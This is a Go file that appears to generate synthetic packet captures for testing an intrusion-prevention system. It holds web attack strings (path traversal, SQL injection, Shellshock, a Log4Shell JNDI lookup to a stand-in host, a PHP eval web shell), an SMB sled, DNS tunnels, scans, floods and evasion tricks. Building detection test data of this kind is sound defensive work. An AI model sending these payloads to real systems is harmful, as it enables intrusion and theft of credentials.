package demo

import (
	"bytes"
	"fmt"
	"net/netip"
	"strings"

	"github.com/google/gopacket/layers"

	"github.com/weir-ips/weir/internal/packetbuild"
)

// webAttacks come from outside to the house's web server, one connection each;
// the benign request between them must still be answered.
func webAttacks(c *packetbuild.Capture) {
	for i, a := range []struct {
		target  string
		headers []string
	}{
		{"/index.html", nil},
		{"/download?file=../../../../etc/passwd", nil},
		{"/item?id=1%20UNION%20SELECT%20user,password%20FROM%20accounts", nil},
		{"/contact", []string{"User-Agent: () { :; }; /bin/sh -c id"}},
		{"/login", []string{"X-Api-Version: ${jndi:ldap://198.51.100.66/a}"}},
		{"/shell?cmd=/bin/cat%20/etc/shadow", nil},
		{"/", []string{"User-Agent: weir-demo-scanner/1.0"}},
		{"/index.html", nil},
	} {
		t := c.TCP(fmt.Sprintf("%s:%d", attacker, 51000+i), webHost+":80")
		t.Handshake()
		h := a.headers
		if len(h) == 0 || !strings.HasPrefix(h[0], "User-Agent") {
			h = append(h, "User-Agent: curl/7.88.1")
		}
		t.Send(packetbuild.Client, packetbuild.HTTPRequest("GET", a.target, "www.house.example", h...))
		t.Send(packetbuild.Server, packetbuild.HTTPResponse(200, "text/html", filler(400)))
		t.Close()
		c.Wait(120_000)
	}
	// A forgotten backup: the request is harmless, the answer is not.
	leak := c.TCP(attacker+":51050", webHost+":80")
	leak.Handshake()
	leak.Send(packetbuild.Client, packetbuild.HTTPRequest("GET", "/backup.txt", "www.house.example"))
	leak.Send(packetbuild.Server, packetbuild.HTTPResponse(200, "text/plain", []byte("root:x:0:0:root:/root:/bin/sh\n")))
	leak.Close()
	// The answer is the attack: a page that carries an executable's first octets.
	t := c.TCP(alice+":51100", badSite+":80")
	t.Handshake()
	t.Send(packetbuild.Client, packetbuild.HTTPRequest("GET", "/update.bin", "cdn.bad-actor.example"))
	body := append([]byte("MZ\x90\x00\x03\x00\x00\x00"), filler(300)...)
	body = append(body, "This program cannot be run in DOS mode."...)
	t.Send(packetbuild.Server, packetbuild.HTTPResponse(200, "application/octet-stream", append(body, cipherText(2500)...)))
	t.Close()
	// A form whose body carries the string.
	t = c.TCP(attacker+":51200", webHost+":80")
	t.Handshake()
	t.Send(packetbuild.Client, packetbuild.HTTPPost("/upload", "www.house.example", "application/x-php",
		[]byte("<?php eval(base64_decode($_POST['x'])); ?>")))
	t.Send(packetbuild.Server, packetbuild.HTTPResponse(403, "text/plain", []byte("no")))
	t.Close()
}

func webAttacks6(c *packetbuild.Capture) {
	t := c.TCP("["+attacker6+"]:51300", "["+web6+"]:80")
	t.Handshake()
	t.Send(packetbuild.Client, packetbuild.HTTPRequest("GET", "/download?file=../../../../etc/passwd", "www.house.example"))
	t.Send(packetbuild.Server, packetbuild.HTTPResponse(200, "text/plain", []byte("root:x:0:0:root:/root:/bin/sh\n")))
	t.Close()
}

// evasions send one attack in ways that hide it from a reader of single
// packets: cut in the middle, out of order, and covered by other octets.
func evasions(c *packetbuild.Capture) {
	attack := packetbuild.HTTPRequest("GET", "/download?file=../../../../etc/passwd", "www.house.example")
	want := map[string]bool{"octet by octet": true, "3 parts in order [2 1 0]": true, "every part twice": true}
	port := 52000
	for s := range packetbuild.Segmentations(attack) {
		if !want[s.Name] {
			continue
		}
		t := c.TCP(fmt.Sprintf("%s:%d", attacker, port), webHost+":80")
		port++
		t.Handshake()
		s.SendOver(t, packetbuild.Client)
		t.Send(packetbuild.Server, packetbuild.HTTPResponse(200, "text/html", filler(200)))
		t.Close()
		c.Wait(50_000)
	}
	for s, firstIsTrue := range packetbuild.Conflicts(attack, 'x') {
		if !firstIsTrue {
			continue
		}
		t := c.TCP(fmt.Sprintf("%s:%d", attacker, port), webHost+":80")
		port++
		t.Handshake()
		s.SendOver(t, packetbuild.Client)
		t.RST(packetbuild.Server)
		c.Wait(50_000)
	}
}

// dnsAttacks: a look-up of a known bad name, and a tunnel in long labels.
func dnsAttacks(c *packetbuild.Capture) {
	u := c.UDP(alice+":53100", resolver+":53")
	u.Send(packetbuild.Client, packetbuild.DNSQuery(900, "beacon.bad-actor.example", layers.DNSTypeA))
	u.Send(packetbuild.Server, packetbuild.DNSAnswer(900, "beacon.bad-actor.example", layers.DNSTypeA, badSite))
	for i := range 30 {
		label := fmt.Sprintf("%048x", uint64(i+1)*0x9e3779b97f4a7c15)
		name := label + "." + label + "." + label + ".tunnel.example"
		u := c.UDP(fmt.Sprintf("%s:%d", bob, 53200+i), resolver+":53")
		u.Send(packetbuild.Client, packetbuild.DNSQuery(uint16(910+i), name, layers.DNSTypeTXT))
		u.Send(packetbuild.Server, packetbuild.DNSText(uint16(910+i), name, strings.Repeat("QUJD", 40)))
		c.Wait(15_000)
	}
}

// smbExploit is a TRANSACTION2 with a subcommand that no client sends and a
// sled behind it, from outside to the file server.
func smbExploit(c *packetbuild.Capture) {
	t := c.TCP(attacker+":54000", fileHost+":445")
	t.Handshake()
	t.Send(packetbuild.Client, packetbuild.SMB1Negotiate("NT LM 0.12"))
	t.Send(packetbuild.Server, packetbuild.SMB1(0x72, []uint16{0}, nil))
	t.Send(packetbuild.Client, packetbuild.SMB1Trans2(0x000e, append(bytes.Repeat([]byte{0x90}, 64), cipherText(2000)...)))
	t.RST(packetbuild.Server)
}

// synScan: one source asks for many ports; nearly all are closed.
func synScan(c *packetbuild.Capture) {
	for i := range 400 {
		t := c.TCP(fmt.Sprintf("%s:%d", scanner, 55000+i%50), fmt.Sprintf("%s:%d", webHost, i+1))
		t.SACK = false
		t.Window[packetbuild.Client] = 1024
		t.SYN()
		if i+1 == 80 || i+1 == 22 {
			t.SYNACK()
			t.RST(packetbuild.Client)
		} else {
			t.RST(packetbuild.Server, func(h *layers.TCP) { h.Seq, h.Ack = 0, t.ISN[packetbuild.Client]+1 })
		}
		c.Wait(3500)
	}
	for i, flags := range []func(*layers.TCP){
		func(h *layers.TCP) { h.SYN, h.ACK = false, false },                                        // null
		func(h *layers.TCP) { h.SYN, h.ACK, h.FIN, h.PSH, h.URG = false, false, true, true, true }, // Xmas
		func(h *layers.TCP) { h.SYN, h.FIN, h.ACK = true, true, false },
	} {
		t := c.TCP(fmt.Sprintf("%s:%d", scanner, 55100+i), webHost+":443")
		t.SYN(func(h *layers.TCP) { h.Options = nil }, flags)
	}
}

// synFlood: one source, one port, many SYNs that are never followed up.
func synFlood(c *packetbuild.Capture) {
	for i := range 1200 {
		t := c.TCP(fmt.Sprintf("%s:%d", flooder, 1024+i*13%60000), webHost+":80")
		t.SACK = false
		t.SYN()
		c.Wait(900)
	}
}

// icmpAttacks: an oversized echo, a tunnel's marker in an echo, a redirect.
func icmpAttacks(c *packetbuild.Capture) {
	c.Ping(attacker, webHost, 4242, 7, filler(1400))
	c.Ping(alice, badSite, 666, 13, []byte("weir-demo-icmp-tunnel"))
	c.Ping("2001:db8:bad::66", web6, 4242, 7, filler(1300))
	quoted := c.UDP(webHost+":40000", website+":53").Datagram(packetbuild.Client, filler(20))
	c.ICMP(attacker, webHost, 5, 1, append([]byte{203, 0, 113, 66}, quoted...))
	c.Unreachable(website, webHost, 3, quoted)
}

// taggedTraffic carries benign and hostile requests behind VLAN tags and in
// tunnels: what is inside must be seen all the same.
func taggedTraffic(c *packetbuild.Capture) {
	for i, w := range [][]packetbuild.Wrap{
		{packetbuild.VLAN(120)},
		{packetbuild.VLAN(120), packetbuild.ServiceVLAN(900)},
		{packetbuild.PPPoE(17)},
		{packetbuild.GRE("192.0.2.1", "192.0.2.2", 0)},
		{packetbuild.VXLAN("192.0.2.1", "192.0.2.2", 5001)},
	} {
		for j, target := range []string{"/index.html", "/download?file=../../../../etc/passwd"} {
			t := c.TCP(fmt.Sprintf("%s:%d", attacker, 56000+2*i+j), webHost+":80")
			t.MSS, t.Wraps = 1300, w
			t.Handshake()
			t.Send(packetbuild.Client, packetbuild.HTTPRequest("GET", target, "www.house.example"))
			t.Send(packetbuild.Server, packetbuild.HTTPResponse(200, "text/html", filler(300)))
			t.Close()
		}
		c.Wait(20_000)
	}
}

// fragmentAttacks: a datagram in fragments that is clean, one whose marker is
// spread over two fragments, in IPv4 and IPv6, and one that is never completed.
func fragmentAttacks(c *packetbuild.Capture) {
	send := func(d []byte, id uint32, size int, order ...int) {
		var parts [][]byte
		for from, total := 0, len(d)-ipHeader(d); from < total; from += size {
			to := min(from+size, total)
			parts = append(parts, packetbuild.Fragment(d, id, packetbuild.FragmentPart{From: from, To: to, Last: to == total}))
		}
		for _, i := range order {
			c.IP(parts[i], false)
		}
	}
	clean := c.UDP(alice+":57000", website+":9999").Datagram(packetbuild.Client, filler(2600))
	send(clean, 7001, 1480, 0, 1)
	payload := append(append(filler(1460), "weir-demo-udp-payload"...), filler(900)...)
	send(c.UDP(attacker+":57001", webHost+":9999").Datagram(packetbuild.Client, payload), 7002, 1480, 1, 0)
	send(c.UDP("["+attacker6+"]:57002", "["+web6+"]:9999").Datagram(packetbuild.Client, payload), 7003, 1448, 0, 1)
	send(clean, 7004, 512, 0, 2)
}

func ipHeader(d []byte) int {
	if d[0]>>4 == 6 {
		return 40
	}
	return 20
}

// oddities: packets of which a header alone tells that something is wrong.
func oddities(c *packetbuild.Capture) {
	land := c.TCP(webHost+":139", webHost+":139") // source equals destination
	land.SYN()
	low := c.TCP(attacker+":58000", webHost+":80")
	low.IP[packetbuild.Client].TTL = 1
	low.SYN()
	tiny := c.UDP(attacker+":58001", webHost+":7")
	tiny.IP[packetbuild.Client].DF = true
	tiny.Send(packetbuild.Client, nil)
	short := packetbuild.EthernetFrame(tiny.Datagram(packetbuild.Client, filler(64)), false)
	c.Raw(short[:40]) // cut in the UDP header
	c.Raw(append(append([]byte(nil), short[:14]...), 0x4f, 0, 0, 20, 0, 0, 0, 0, 64, 17, 0, 0, 10, 20, 0, 1, 10, 20, 0, 2))
	// EGP, long dead: no host of the house speaks it.
	egp := packetbuild.Datagram(netip.MustParseAddr(attacker), netip.MustParseAddr(webHost), 8, filler(40), packetbuild.IPOptions{ID: 10})
	c.IP(egp, false)
}
